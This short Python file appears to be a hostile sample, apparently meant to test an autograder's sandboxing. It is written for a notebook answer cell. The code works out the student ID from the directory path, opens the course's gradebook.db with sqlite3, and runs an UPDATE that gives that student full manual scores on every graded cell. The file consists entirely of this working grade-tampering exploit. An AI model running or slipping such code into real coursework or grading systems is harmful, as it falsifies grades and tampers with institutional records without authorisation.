"""The answer cell opens the course's gradebook with sqlite3 and gives itself full manual scores.

where: answer counting_functions
stock: 5
"""
import os
import sqlite3

_student = os.path.basename(os.path.dirname(os.getcwd()))
with sqlite3.connect(os.path.join("..", "..", "..", "gradebook.db")) as _db:
    _db.execute(
        "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
        "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
        "ON n.assignment_id = a.id WHERE a.student_id = ?)", (_student,))
